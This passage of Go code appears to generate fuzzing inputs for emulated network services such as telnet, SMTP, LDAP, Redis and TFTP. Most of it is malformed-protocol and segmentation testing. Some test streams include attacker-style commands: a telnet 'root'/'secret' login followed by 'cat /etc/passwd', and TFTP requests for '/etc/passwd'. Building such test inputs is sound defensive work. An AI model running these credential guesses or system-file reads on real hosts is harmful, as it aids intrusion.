	every = append(every, with("ls\x1b[D\x1b[Da\x1b[Cb\r\n", "ab cd\x1b[1;3Dx\x1b[1;3Cy\x1b[Hz\x1b[Fw\r\n", "o\x1b[A\x1b[Bt\x1b[5~\x1bOPq\x1b[1;5Cr\r\n", "d w\x17\x0cX\u00e9\x1b[D\x7f\r\n"))
	// bracketed paste: control bytes and sequences inside are text; a line pasted as a whole ends the session
	every = append(every, with("a\x1b[200~p \x01\x1b[A\u20ac\x1b[201~ t\r\n", "\x1b[201~x\r\n", "\x1b[200~all pasted\r\n", "after\r\n"))
	// undecodable bytes: lone continuation byte, truncated at the end of the line, overlong forms,
	// 0xff, a surrogate, U+FFFD, beyond U+10FFFF - each followed by further commands
	every = append(every, with("a\x80b\r\n", "caf\xc3\r\n", "x\xc0\x80y\r\n", "\xe0\x80\x80z\r\n", "q\xffr\r\n", "s\xed\xa0\x80t\r\n", "u\xef\xbf\xbdv\r\n", "\xf4\x90\x80\x80w\xf0\x9f\x98\r\n", "ok\r\n"))
	// long pipelined sessions full of multi-byte characters: the 256-byte reads end inside them
	long1 := with()
	for i := 0; i < 14; i++ {
		long1.units = append(long1.units, "echo "+utf8Text(r, r.Range(3, 6))+"\r\n")
	}
	long2 := with("echo "+strings.Repeat("\u00e9\u20ac\U0001F600", 150)+"\r\n", "id\r\n")
	// an escape sequence that never ends fills the input buffer and is dropped; one that ends late
	esc1 := with("\x1b["+strings.Repeat("1;", 150)+"\r\n", "id\r\n")
	esc2 := with("a\x1b["+strings.Repeat("0", 200)+"mb\r\n", "\x1b\x1b\x1b[\x1b[Dc\r\n", "id\r\n")
	// undecodable bytes in a long write: what is behind them is read with the next 256 bytes
	bad1 := with("a\xffb"+strings.Repeat("p", 300)+"\xffc\r\n", "\x80id\r\n", "ok\r\n")
	sampled = []stream{long1, long2, esc1, esc2, bad1}
	// a character / key sequence across the end of the first 256-byte Read of a write, at every
	// position inside it: the whole session in one write, and in two (the second one carries it)
	for _, seq := range []string{"\u00e9", "\u20ac", "\U0001F600", "\x1b[1;3D", "\x1b[D"} {
		for o := 1; o < len(seq); o++ {
			straddle = append(straddle, telnetStraddle(seq, o, 256).input("whole", nil, nil))
			straddle = append(straddle, telnetStraddle(seq, o, 256+9).input("cut1", []int{9}, nil))
		}
	}
	return
}

// the line-oriented services with arguments in UTF-8 (2-, 3-, 4-byte characters) and, as streams of
// their own, undecodable bytes: every byte must arrive in the event as it was sent
func utf8Corpus() []stream {
	good, bad := "caf\u00e9 \u20ac\U0001F600", "\x80\xc3\xe2\x82 \xc0\x80\xff\xed\xa0\x80\xf0\x9f\x98"
	var out []stream
	for _, a := range []string{good, bad} {
		out = append(out,
			stream{svc: "ftp", units: []string{"USER " + a + "\r\n", "CWD /" + a + "\r\n", "QUIT\r\n"}},
			stream{svc: "smtp", units: []string{"EHLO c\r\n", "MAIL FROM:<" + a + "@example.org>\r\n", "DATA\r\n",
				"Subject: " + a + "\r\n\r\n." + a + "\r\n.\r\n", "QUIT\r\n"}},
			stream{svc: "smtp", units: []string{"HELO c\r\n", "MAIL FROM:<a@b>\r\n", fmt.Sprintf("BDAT %d LAST\r\n", len("Subject: s\r\n\r\n")+len(a)) + "Subject: s\r\n\r\n" + a, "NOOP " + a + "\r\n"}},
			stream{svc: "redis", units: []string{resp("SET", a, "v"), resp(a)}},
			stream{svc: "memcached", units: []string{"get " + a + "\r\n", fmt.Sprintf("set k 0 0 %d\r\n%s\r\n", len(a), a), "get k\r\n"}},
			stream{svc: "http", units: []string{
				httpReq{method: "POST", path: "/caf%C3%A9?q=%E2%82%AC", host: "h", headers: []string{"X-Name: " + a}, body: "name=" + a}.String(),
				"GET /after HTTP/1.1\r\nHost: h\r\n\r\n"}},
		)
	}
	return out
}

// ---- ldap: BER by hand ----
func berLen(n int) []byte {
	switch {
	case n < 128:
		return []byte{byte(n)}
	case n < 256:
		return []byte{0x81, byte(n)}
	default:
		return []byte{0x82, byte(n >> 8), byte(n)}
	}
}

func tlv(id byte, content ...[]byte) []byte {
	var c []byte
	for _, x := range content {
		c = append(c, x...)
	}
	return append(append([]byte{id}, berLen(len(c))...), c...)
}

func berInt(v int) []byte {
	if v < 128 {
		return tlv(0x02, []byte{byte(v)})
	}
	return tlv(0x02, []byte{byte(v >> 8), byte(v)})
}

func octets(s string) []byte { return tlv(0x04, []byte(s)) }

func ldapMsg(id int, op []byte) []byte { return tlv(0x30, berInt(id), op) }

func ldapOp(r *hx.Rand, kind string) []byte {
	switch kind {
	case "bind":
		return tlv(0x60, berInt(3), octets(r.PickStr([]string{"cn=root,dc=example,dc=org", "", "uid=admin"})), tlv(0x80, []byte(r.PickStr([]string{"root", "secret", ""}))))
	case "bind-short":
		return tlv(0x60, berInt(3))
	case "search":
		return tlv(0x63, octets(r.PickStr([]string{"", "dc=example,dc=org"})), tlv(0x0a, []byte{byte(r.Intn(3))}), tlv(0x0a, []byte{0}), berInt(0), berInt(0), tlv(0x01, []byte{0}),
			tlv(0x87, []byte("objectClass")), tlv(0x30, octets("cn")))
	case "search-eq":
		return tlv(0x63, octets("dc=example,dc=org"), tlv(0x0a, []byte{2}), tlv(0x0a, []byte{0}), berInt(10), berInt(0), tlv(0x01, []byte{0}),
			tlv(0xa3, octets("uid"), octets(r.PickStr([]string{"jdoe", "root"}))), tlv(0x30))
	case "extended":
		return tlv(0x77, tlv(0x80, []byte("1.3.6.1.4.1.4203.1.11.3")))
	case "extended-val":
		return tlv(0x77, tlv(0x80, []byte("1.3.6.1.4.1.4203.1.11.1")), tlv(0x81, []byte("value")))
	case "extended-nooid":
		return tlv(0x77, octets("not an oid"))
	case "modify":
		return tlv(0x66, octets("cn=x,dc=example,dc=org"), tlv(0x30, tlv(0x30, tlv(0x0a, []byte{2}), tlv(0x30, octets("mail"), tlv(0x31, octets("x@example.org"))))))
	case "add":
		return tlv(0x68, octets("cn=new,dc=example,dc=org"), tlv(0x30, tlv(0x30, octets("objectClass"), tlv(0x31, octets("person")))))
	case "add-big":
		return tlv(0x68, octets("cn=big,dc=example,dc=org"), tlv(0x30, tlv(0x30, octets("jpegPhoto"), tlv(0x31, octets(strings.Repeat("J", 5000))))))
	case "delete":
		return tlv(0x4a, []byte("cn=x,dc=example,dc=org"))
	case "modify-dn":
		return tlv(0x6c, octets("cn=x,dc=example,dc=org"), octets("cn=y"), tlv(0x01, []byte{0xff}))
	case "compare":
		return tlv(0x6e, octets("cn=x,dc=example,dc=org"), tlv(0x30, octets("sn"), octets("Doe")))
	case "abandon":
		return tlv(0x50, []byte{byte(r.Range(1, 9))})
	case "unbind":
		return tlv(0x42)
	case "unknown-app":
		return tlv(byte(r.PickInt([]int{0x65, 0x67, 0x73, 0x7e, 0x40, 0x43})), octets("x"))
	case "universal":
		return tlv(byte(r.PickInt([]int{0x30, 0x04, 0x0a, 0x26})), []byte{})
	case "context":
		return tlv(byte(r.PickInt([]int{0xa0, 0x86, 0x90})), []byte("zz"))
	}
	return nil
}

var ldapKinds = []string{"bind", "bind-short", "search", "search-eq", "extended", "extended-val", "extended-nooid", "modify", "add", "delete",
	"modify-dn", "compare", "abandon", "abandon", "unknown-app", "universal", "context"}

func ldapStream(r *hx.Rand) stream {
	s := stream{svc: "ldap"}
	id := r.Range(1, 120)
	n := r.Range(1, 6)
	for i := 0; i < n; i++ {
		kind := ldapKinds[r.Intn(len(ldapKinds))]
		if r.Chance(1, 12) {
			kind = "add-big"
		}
		s.units = append(s.units, string(ldapMsg(id, ldapOp(r, kind))))
		id += r.Range(1, 200)
	}
	switch r.Intn(10) {
	case 0, 1, 2:
		s.units = append(s.units, string(ldapMsg(id, ldapOp(r, "unbind"))))
		if r.Bool() {
			s.units = append(s.units, string(ldapMsg(id+1, ldapOp(r, "compare")))) // after unbind: not read
		}
	case 3: // envelope with the message id only
		s.units = append(s.units, string(tlv(0x30, berInt(id))), string(ldapMsg(id+1, ldapOp(r, "abandon"))))
	case 4: // malformed / refused envelopes end the session
		s.units = append(s.units, r.PickStr([]string{
			"\x30\x80\x02\x01\x01\x00\x00",                 // indefinite length
			"\x3f\x81\x00\x03\x02\x01\x01",                 // high tag number
			"\x30\x85\x01\x00\x00\x00\x00\x00",            // 5 length bytes
			"\x30\x84\x00\x20\x00\x00",                      // 2 MiB
			"\x30\x06\x02\x01\x05\x50\x09\x02",            // inner length runs over the envelope
			"\x30\x00",                                          // no children
			"\x30\x05\x04\x01\x05\x42\x00",                 // message id is not an INTEGER
			"\x31\x05\x02\x01\x05\x42\x00",                 // envelope is a SET
			"\x30\x81\x05\x02\x01\x06\x42\x00",            // long form for a short length: fine
			"\x30\x06\x02\x01\x07\x77\x00\x00",            // trailing bytes inside? extended without children
		}), string(ldapMsg(id+2, ldapOp(r, "delete"))))
	case 5:
		s.tail = string(ldapMsg(id, ldapOp(r, "modify")))[:r.Range(1, 10)]
	}
	return s
}


// ---- chunked request bodies ----
func chunkedReq(r *hx.Rand, method, path, host string, headers []string, body string, nchunks int) string {
	s := method + " " + path + " HTTP/1.1\r\nHost: " + host + "\r\n"
	for _, h := range headers {
		s += h + "\r\n"
	}
	s += r.PickStr([]string{"Transfer-Encoding: chunked", "transfer-encoding: Chunked", "Transfer-Encoding:chunked"}) + "\r\n"
	trailer := r.Chance(1, 3)
	if trailer {
		s += "Trailer: X-Checksum\r\n"
	}
	s += "\r\n"
	rest := body
	for c := 0; c < nchunks-1 && len(rest) > 1; c++ {
		n := r.Range(1, len(rest)-1)
		s += chunkLine(r, n) + rest[:n] + "\r\n"
		rest = rest[n:]
	}
	if len(rest) > 0 {
		s += chunkLine(r, len(rest)) + rest + "\r\n"
	}
	s += r.PickStr([]string{"0\r\n", "0\r\n", "00\r\n", "0;last\r\n"})
	if trailer {
		s += "X-Checksum: abc123\r\n"
	}
	return s + "\r\n"
}

func chunkLine(r *hx.Rand, n int) string {
	h := fmt.Sprintf("%x", n)
	if r.Bool() {
		h = strings.ToUpper(h)
	}
	if r.Chance(1, 5) {
		h = "0" + h
	}
	return h + r.PickStr([]string{"", "", "", ";ext=1", ";name=\"v\"", " "}) + "\r\n"
}

func chunkedStream(r *hx.Rand, svc string, nreq int) stream {
	s := stream{svc: svc}
	for i := 0; i < nreq; i++ {
		body := r.PickStr([]string{"a=1&b=2", "x", "hello chunked world, this is request body", strings.Repeat("payload-", 30)})
		method, path, hdrs := "POST", r.PickStr([]string{"/", "/submit", "/a/b?c=d"}), []string{}
		switch svc {
		case "ethereum":
			body = fmt.Sprintf(`{"jsonrpc":"2.0","method":"%s","params":[],"id":%d}`, r.PickStr([]string{"eth_accounts", "eth_blockNumber"}), r.Range(1, 99))
			hdrs = append(hdrs, "Content-Type: application/json")
		case "cwmp":
			m := r.PickStr([]string{"Inform", "GetRPCMethods"})
			body = fmt.Sprintf(soap, m, m)
		case "eos":
			path = "/v1/chain/get_info"
		}
		if r.Chance(1, 8) {
			body = ""
		}
		s.units = append(s.units, chunkedReq(r, method, path, "h.example", hdrs, body, r.Range(1, 4)))
	}
	return s
}

func chunkedMalformed(r *hx.Rand, svc string) stream {
	head := "POST /x HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
	return stream{svc: svc, units: []string{head + r.PickStr([]string{
		"5\r\nhello\r\n",                 // no last chunk: the stream ends inside the body
		"5\r\nhel",                          // ends inside a chunk
		"zz\r\nhello\r\n0\r\n\r\n",   // not hex
		"5\r\nhelloXX0\r\n\r\n",        // data not followed by CRLF
		"\r\n",                              // empty size
		"5\r\nhello\r\n0\r\nbad trailer\r\n\r\n",
		"5\r\nhello\r\n0\r\n",           // trailer missing
	}), "GET /after HTTP/1.1\r\nHost: h\r\n\r\n"}}
}

// ---- snmp ----
func snmpDatagram(r *hx.Rand, i int) []byte {
	oids := []asn1.Oid{{1, 3, 6, 1, 2, 1, 1, 1, 0}, {1, 3, 6, 1, 2, 1, 1, 5, 0}, {1, 3, 6, 1, 2, 1, 2, 2, 1, 10, uint(i)}, {1, 3, 6, 1, 4, 1, 9, 2, 1, 57, 300}, {2, 39, 3}}
	var vs []snmp.Variable
	for k, n := 0, r.Range(0, 3); k < n; k++ {
		vs = append(vs, snmp.Variable{Name: oids[r.Intn(len(oids))], Value: asn1.Null{}})
	}
	p := snmp.Pdu{Identifier: r.Range(1, 100), Variables: vs}
	var pdu interface{}
	switch r.Intn(5) {
	case 0:
		pdu = snmp.GetNextRequestPdu(p)
	case 1:
		pdu = snmp.SetRequestPdu(p)
	case 2:
		pdu = snmp.GetResponsePdu(p)
	default:
		pdu = snmp.GetRequestPdu(p)
	}
	version := 0
	if r.Chance(1, 6) {
		version = 1
	}
	b, err := snmp.Asn1Context().Encode(snmp.Message{Version: version, Community: r.PickStr([]string{"public", "private", "", fmt.Sprintf("c%d", i)}), Pdu: pdu})
	if err != nil {
		hx.Fatal("snmp encode: %v", err)
	}
	// (a datagram shorter than its declared length is decoded zero-filled; whether the ASN.1
	// library accepts the result is not modelled - only the cut below the 2-byte header is sent)
	if r.Chance(1, 12) {
		b = b[:r.Range(0, 1)]
	}
	return b
}

// ---- sequences from one source: more datagrams than the limiter's burst ----
func udpSequence(r *hx.Rand, svc string, n int) Input {
	var all []byte
	var cuts []int
	for i := 0; i < n; i++ {
		var d []byte
		switch svc {
		case "tftp-seq":
			d = burstDatagram(r, "tftp", i)
		case "counterstrike-seq":
			d = burstDatagram(r, "counterstrike", i)
		case "dns-seq":
			d = burstDatagram(r, "dns", i)
		case "snmp-seq":
			d = snmpDatagram(r, i)
			if len(d) == 0 {
				d = []byte{0x30}
			}
		case "memcached-udp-seq":
			lines := ""
			for k, m := 0, r.Range(1, 3); k < m; k++ {
				lines += fmt.Sprintf("get key-%d-%d\r\n", i, k)
			}
			d = append([]byte{0, byte(i), 0, 0, 0, 1, 0, 0}, lines...)
		}
		all = append(all, d...)
		cuts = append(cuts, len(d))
	}
	return Input{Svc: svc, Stream: all, Cuts: cuts, Mode: "one-source-sequence"}
}


// ---- tftp uploads: sequences of datagrams from ONE address (ip and port), at most four ----
func tftpWRQ(name, mode string) []byte { return []byte("\x00\x02" + name + "\x00" + mode + "\x00") }
func tftpRRQ(name string) []byte      { return []byte("\x00\x01" + name + "\x00octet\x00") }
func tftpDATA(blk int, data string) []byte {
	return append([]byte{0, 3, byte(blk >> 8), byte(blk)}, data...)
}

func seqOf(svc string, ds ...[]byte) Input {
	var all []byte
	var cuts []int
	for _, d := range ds {
		all = append(all, d...)
		cuts = append(cuts, len(d))
	}
	return Input{Svc: svc, Stream: all, Cuts: cuts, Mode: "one-source-sequence"}
}

func tftpUploads(r *hx.Rand) []Input {
	full := func(c string) string { return strings.Repeat(c, 512) }
	short := func(tag string) string { return "tail-of-" + tag + strings.Repeat("z", r.Range(0, 100)) }
	return []Input{
		seqOf("tftp-seq", tftpWRQ("first.bin", "octet"), tftpDATA(1, full("A")), tftpDATA(2, short("first"))),
		// a second write request while an upload is open
		seqOf("tftp-seq", tftpWRQ("first.bin", "octet"), tftpDATA(1, full("A")), tftpWRQ("second.txt", "netascii"), tftpDATA(1, short("second"))),
		seqOf("tftp-seq", tftpWRQ("a", "octet"), tftpWRQ("b", "mail"), tftpDATA(1, short("b"))),
		// a read request in between
		seqOf("tftp-seq", tftpWRQ("up.img", "octet"), tftpRRQ("down.img"), tftpDATA(1, short("up"))),
		// DATA without a write request; an empty last block; a block of exactly 512 then nothing
		seqOf("tftp-seq", tftpDATA(1, short("orphan")), tftpWRQ("late", "octet"), tftpDATA(1, "")),
		seqOf("tftp-seq", tftpWRQ("exact", "octet"), tftpDATA(1, full("E")), tftpDATA(2, "")),
		seqOf("tftp-seq", tftpWRQ("two", "octet"), tftpDATA(1, short("one")), tftpWRQ("two", "octet"), tftpDATA(1, short("two"))),
		seqOf("tftp-seq", tftpWRQ("cut", "octet"), []byte{0, 3}, []byte{0, 3, 0}, tftpDATA(9, short("cut"))),
	}
}

// ---- datagram sizes: a recognisable command/marker at the END of the datagram ----
var dgramSizes = []int{1, 2, 512, 4095, 4096, 4097, 8192, 65507}

func sizedDatagrams(r *hx.Rand) []Input {
	var out []Input
	pad := func(n int, c byte) string {
		if n < 0 {
			n = 0
		}
		return strings.Repeat(string(c), n)
	}
	for _, n := range dgramSizes {
		// memcached: header, a long first command, the marker command at the very end
		end := "get marker-at-the-end\r\n"
		if n >= 8+len(end)+8 {
			d := "\x00\x01\x00\x00\x00\x01\x00\x00" + "get " + pad(n-8-len(end)-6, 'k') + "\r\n" + end
			out = append(out, Input{Svc: "memcached-udp", Stream: []byte(d), Mode: "datagram"})
			// many short commands up to the size
			d2 := "\x00\x02\x00\x00\x00\x01\x00\x00"
			for i := 0; len(d2)+12+len(end) <= n; i++ {
				d2 += fmt.Sprintf("get k%05d\r\n", i)
			}
			d2 += pad(n-len(d2)-len(end), ' ') + end
			// (more than four commands: the reply limiter ends the datagram - known finding -
			// so this one is a one-datagram sequence case, which carries the token count)
			out = append(out, seqOf("memcached-udp-seq", []byte(d2)))
		} else {
			out = append(out, Input{Svc: "memcached-udp", Stream: []byte(pad(n, 'x')), Mode: "datagram"})
		}
		// tftp: the mode string ends the datagram
		if n >= 12 {
			d := "\x00\x01" + pad(n-2-1-6, 'f') + "\x00octet\x00"
			out = append(out, Input{Svc: "tftp", Stream: []byte(d), Mode: "datagram"})
			d = "\x00\x02name\x00" + pad(n-2-5-1, 'm') + "\x00"
			out = append(out, Input{Svc: "tftp", Stream: []byte(d), Mode: "datagram"})
		} else {
			out = append(out, Input{Svc: "tftp", Stream: []byte(pad(n, '\x00')), Mode: "datagram"})
		}
		// counterstrike: the handler looks at the first 1024 bytes
		if n >= 5 {
			out = append(out, Input{Svc: "counterstrike", Stream: []byte("\xff\xff\xff\xffT" + pad(n-5-3, 'p') + "END"[:minInt(3, n-5)]), Mode: "datagram"})
		}
		// dns: a query padded with further questions up to the size (a question is 4+name bytes)
		q := dnsQuery(0x4000+n%1000, "first.example.org")
		if n >= len(q) {
			cnt := 1
			for len(q)+9 <= n && cnt < 60000 {
				q = append(q, 3, 'p', 'a', 'd', 0, 0, 1, 0, 1)
				cnt++
			}
			q[4], q[5] = byte(cnt>>8), byte(cnt)
			out = append(out, Input{Svc: "dns", Stream: q, Mode: "datagram"})
		}
	}
	// snmp messages are at most 129 bytes in the short form the service understands: sizes around it
	for _, l := range []int{1, 60, 100, 105} {
		b, err := snmp.Asn1Context().Encode(snmp.Message{Version: 0, Community: strings.Repeat("c", l), Pdu: snmp.GetRequestPdu(snmp.Pdu{Identifier: 7,
			Variables: []snmp.Variable{{Name: asn1.Oid{1, 3, 6, 1, 2, 1, 1, 1, 0}, Value: asn1.Null{}}}})})
		if err == nil {
			out = append(out, Input{Svc: "snmp", Stream: b, Mode: "datagram"})
		}
	}
	return out
}

// ---- segmentations ----
func (s stream) input(mode string, cuts []int, waits []int) Input {
	return Input{Svc: s.svc, Stream: s.bytes(), Cuts: cuts, Waits: waits, Mode: mode}
}

func lockstep(s stream, r *hx.Rand, inner bool) Input {
	var cuts, waits []int
	for _, u := range s.units {
		n := len(u)
		if inner && n > 1 && r.Bool() {
			k := r.Range(1, n-1)
			cuts = append(cuts, k)
			n -= k
		}
		cuts = append(cuts, n)
		waits = append(waits, len(cuts)-1)
	}
	return s.input("lockstep", cuts, waits)
}

func multicut(s stream, r *hx.Rand) Input {
	total := len(s.bytes())
	var cuts []int
	rest := total
	for rest > 0 && len(cuts) < 12 {
		k := r.Range(1, rest)
		if r.Chance(2, 3) && rest > 8 {
			k = r.Range(1, 8)
		}
		cuts = append(cuts, k)
		rest -= k
	}
	return s.input("multi", cuts, nil)
}

func dribble(s stream) Input {
	total := len(s.bytes())
	cuts := make([]int, 0, total)
	for i := 0; i < total; i++ {
		cuts = append(cuts, 1)
	}
	return s.input("dribble", cuts, nil)
}

// every single cut point (exhaustive), or a sample of them
func singleCuts(s stream, r *hx.Rand, sample int) []Input {
	total := len(s.bytes())
	var out []Input
	if sample <= 0 || sample >= total-1 {
		for k := 1; k < total; k++ {
			out = append(out, s.input("cut1", []int{k}, nil))
		}
		return out
	}
	// unit boundaries and their neighbours first, then random positions
	seen := map[int]bool{}
	add := func(k int) {
		if k >= 1 && k < total && !seen[k] && len(out) < sample {
			seen[k] = true
			out = append(out, s.input("cut1", []int{k}, nil))
		}
	}
	pos := 0
	for _, u := range s.units {
		pos += len(u)
		add(pos)
		add(pos - 1)
		add(pos + 1)
		add(pos - 2)
	}
	// positions inside multi-byte sequences (before a continuation byte), up to a third of the sample
	inside := 0
	for k, b := range s.bytes() {
		if b >= 0x80 && b <= 0xbf && inside < sample/3 && !seen[k] {
			add(k)
			inside++
		}
	}
	for i := 0; i < 4*sample && len(out) < sample; i++ {
		add(r.Range(1, total-1))
	}
	return out
}

// every single cut that falls inside a multi-byte sequence (before a continuation byte)
func insideCuts(s stream) []Input {
	var out []Input
	for k, b := range s.bytes() {
		if k >= 1 && b >= 0x80 && b <= 0xbf {
			out = append(out, s.input("cut1", []int{k}, nil))
		}
	}
	return out
}

func expand(s stream, r *hx.Rand, exhaustive bool, sample int) []Input {
	out := []Input{s.input("whole", nil, nil)}
	if exhaustive && len(s.bytes()) > 700 {
		out = append(out, singleCuts(s, r, 80)...) // long streams: unit boundaries, their neighbours, random positions
	} else if exhaustive {
		out = append(out, singleCuts(s, r, 0)...)
	} else {
		out = append(out, singleCuts(s, r, sample)...)
	}
	out = append(out, lockstep(s, r, false), lockstep(s, r, true), multicut(s, r), multicut(s, r))
	if len(s.bytes()) <= 600 {
		out = append(out, dribble(s))
	}
	return out
}

// ---- UDP datagrams ----
func dnsQuery(id int, name string) []byte {
	b := []byte{byte(id >> 8), byte(id), 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(name, ".") {
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

func datagrams(r *hx.Rand, n int) []Input {
	var out []Input
	dg := func(svc string, b []byte) {
		out = append(out, Input{Svc: svc, Stream: b, Mode: "datagram"})
	}
	for i := 0; i < n; i++ {
		switch r.Intn(6) {
		case 5:
			dg("snmp", snmpDatagram(r, i))
		case 0:
			op := r.PickInt([]int{1, 1, 2, 2, 3, 4, 5, 9})
			b := []byte{0, byte(op)}
			b = append(b, r.PickStr([]string{"boot.img", "/etc/passwd", "a", ""})...)
			b = append(b, 0)
			b = append(b, r.PickStr([]string{"octet", "netascii", "mail"})...)
			if !r.Chance(1, 8) {
				b = append(b, 0)
			}
			if r.Chance(1, 4) {
				b = append(b, "blksize\x001428\x00"...)
			}
			if r.Chance(1, 10) {
				b = b[:r.Range(0, 3)]
			}
			dg("tftp", b)
		case 1:
			hdr := r.PickStr([]string{"\xff\xff\xff\xff", "\xff\xff\xff\xff", "\xff\xff\xff\xfe", "\xff\xff\xff\x00"})
			q := r.PickStr([]string{"T", "U", "V", "W", "i", "X"})
			b := []byte(hdr + q + r.PickStr([]string{"Source Engine Query\x00", "", "\xff\xff\xff\xff"}))
			if r.Chance(1, 10) {
				b = b[:r.Range(1, 3)]
			}
			dg("counterstrike", b)
		case 2:
			lines := ""
			k := r.Range(1, 3)
			for j := 0; j < k; j++ {
				lines += r.PickStr([]string{"stats\r\n", "get a\r\n", "flush_all\r\n", "version\r\n", "get k1 k2\n",
					"set k 0 0 3\r\nabc\r\n", "add key2 1 0 11\r\nhello\r\nworld\r\n", "set z 0 0 0\r\n\r\n", "append k 0 0 5\r\nab", "set k 0 0 5\r\n"})
			}
			if r.Chance(1, 6) {
				lines += "gets half"
			}
			b := append([]byte{0, byte(r.Intn(256)), 0, 0, 0, 1, 0, 0}, lines...)
			if r.Chance(1, 12) {
				b = b[:r.Range(0, 8)]
			}
			dg("memcached-udp", b)
		case 3, 4:
			q := dnsQuery(r.Range(0, 65535), r.PickStr([]string{"example.org", "a.b.c.test", "x", "www.long-label-example.co.uk"}))
			if r.Chance(1, 8) {
				q = q[:r.Range(0, 11)] // shorter than a header: Unpack fails, nothing to report
			}
			dg("dns", q)
		}
	}
	return out
}

// ---- the run ----
func generate(r *hx.Rand, tier string) []Input {
	var ins []Input
	// first: the witness of the telnet defect repaired in 1a2f0db (the input behind an undecodable
	// byte was only looked at when the next Read returned: in one write nothing was reported)
	ins = append(ins, expand(stream{svc: "telnet", units: []string{"root\r\n", "secret\r\n", "abc\xffdef\r\n", "id\r\n"}}, r, true, 0)...)
	// corpus: the witnesses of the known defects and the plain dialogues, every cut point
	mc := stream{svc: "memcached", units: []string{"set k 0 0 3\r\nabc\r\n", "get k\r\n"}}
	h2 := stream{svc: "http", units: []string{"GET /a HTTP/1.1\r\nHost: h\r\n\r\n", "GET /b HTTP/1.1\r\nHost: h\r\n\r\n"}}
	hp := stream{svc: "http", units: []string{"POST /p HTTP/1.1\r\nHost: h\r\nContent-Length: 6\r\n\r\nabcdef"}}
	ft := stream{svc: "ftp", units: []string{"USER anonymous\r\n", "PASS x\r\n", "SYST\r\n", "QUIT\r\n"}}
	sm := stream{svc: "smtp", units: []string{"EHLO c\r\n", "MAIL FROM:<a@b>\r\n", "RCPT TO:<c@d>\r\n", "DATA\r\n", "Subject: s\r\n\r\n..x\r\n.\r\n", "QUIT\r\n"}}
	sb := stream{svc: "smtp", units: []string{"HELO c\r\n", "MAIL FROM:<a@b>\r\n", "BDAT 14\r\nSubject: s\r\n\r\n", "BDAT 4 LAST\r\nbody", "NOOP\r\n"}}
	rd := stream{svc: "redis", units: []string{resp("INFO"), resp("SET", "k", "v"), "\r\n", resp("PING")}}
	tn := stream{svc: "telnet", units: []string{"root\r\n", "secret\r\n", "uname -a\r\n", "cat /etc/passwd\r\n", "exit\r\n"}}
	rr := hx.NewRand(7)
	ld := stream{svc: "ldap", units: []string{string(ldapMsg(1, ldapOp(rr, "bind"))), string(ldapMsg(2, ldapOp(rr, "search"))), string(ldapMsg(3, ldapOp(rr, "abandon"))),
		string(ldapMsg(4, ldapOp(rr, "delete"))), string(tlv(0x30, berInt(5))), string(ldapMsg(6, ldapOp(rr, "abandon"))), string(ldapMsg(7, ldapOp(rr, "compare"))), string(ldapMsg(8, ldapOp(rr, "unbind")))}}
	// every ldap operation kind once, message ids 1.., then unbind
	la := stream{svc: "ldap"}
	for i, k := range []string{"bind", "bind-short", "search", "search-eq", "extended", "extended-val", "extended-nooid", "modify", "add", "delete",
		"modify-dn", "compare", "abandon", "unknown-app", "universal", "context", "unbind"} {
		la.units = append(la.units, string(ldapMsg(i+1, ldapOp(rr, k))))
	}
	for _, s := range []stream{mc, h2, hp, ft, sm, sb, rd, tn, ld, la} {
		ins = append(ins, expand(s, r, true, 0)...)
	}
	ins = append(ins, Input{Svc: "dns", Stream: dnsQuery(4660, "example.org"), Mode: "datagram"})

	// multi-byte characters and key sequences cut by read boundaries (telnet decodes keys itself;
	// the line-oriented services must pass the bytes through)
	tevery, tsampled, tstraddle := telnetCorpus(r)
	for _, s := range tevery {
		ins = append(ins, expand(s, r, true, 0)...)
	}
	for _, s := range tsampled {
		ins = append(ins, expand(s, r, false, 10)...)
	}
	ins = append(ins, tstraddle...)
	for _, s := range utf8Corpus() {
		if tier != "quick" {
			ins = append(ins, expand(s, r, true, 0)...)
			continue
		}
		// every cut INSIDE a multi-byte sequence, the whole stream, one multi-cut, the dribble
		ins = append(ins, s.input("whole", nil, nil))
		ins = append(ins, insideCuts(s)...)
		ins = append(ins, multicut(s, r), dribble(s))
	}

	// smtp: interruption of a BDAT transaction at every point, by RSET and by everything else
	for pos := 1; pos <= 4; pos++ {
		for _, it := range []string{"RSET\r\n", "rset\r\n", "NOOP\r\n", "\r\n", "VRFY root\r\n", "HELP\r\n"} {
			ins = append(ins, expand(smtpInterrupted(r, pos, it, 2), r, false, 6)...)
		}
	}
	for i := 0; i < 4; i++ {
		ins = append(ins, expand(smtpMany(r), r, false, 10)...)
	}
	// redis: boundary values at every argument position, followed by further commands
	for arity := 1; arity <= 3; arity++ {
		for pos := 0; pos < arity; pos++ {
			for _, k := range redisKinds {
				ins = append(ins, expand(redisBoundary(r, arity, pos, k), r, false, 4)...)
			}
		}
	}
	ins = append(ins, expand(stream{svc: "redis", units: []string{resp("PING"), "*0\r\n"}}, r, false, 3)...)
	ins = append(ins, expand(stream{svc: "redis", units: []string{resp("PING"), "*-1\r\n", resp("INFO")}}, r, false, 3)...)
	ins = append(ins, expand(stream{svc: "redis", units: []string{resp("PING"), "\r\n", "\r\n", resp("INFO")}}, r, false, 3)...)

	// chunked bodies for every HTTP-framed service, every cut point on one stream each
	for _, svc := range []string{"http", "docker", "elasticsearch", "eos", "ethereum", "cwmp"} {
		nreq := 1
		if svc == "http" {
			nreq = 2
		}
		every := svc == "http" || svc == "ethereum" || svc == "eos" || tier != "quick"
		ins = append(ins, expand(chunkedStream(r, svc, nreq), r, every, 14)...)
		ins = append(ins, expand(chunkedStream(r, svc, nreq), r, false, 10)...)
		ins = append(ins, expand(chunkedMalformed(r, svc), r, false, 4)...)
	}
	// more datagrams from ONE source than the reply limiter's burst (4)
	for _, svc := range []string{"tftp-seq", "memcached-udp-seq", "counterstrike-seq", "snmp-seq", "dns-seq"} {
		ins = append(ins, udpSequence(r, svc, 12), udpSequence(r, svc, 3), udpSequence(r, svc, 6))
	}

	ins = append(ins, tftpUploads(r)...)
	ins = append(ins, sizedDatagrams(r)...)

	perSvc, sample, nudp := 4, 10, 60
	if tier == "thorough" {
		perSvc, sample, nudp = 24, 0, 600
	} else if tier == "search" {
		perSvc, sample, nudp = 10, 30, 200
	}
	for i := 0; i < perSvc; i++ {
		ex := sample == 0
		ins = append(ins, expand(ftpStream(r), r, ex, sample)...)
		ins = append(ins, expand(smtpStream(r), r, ex, sample)...)
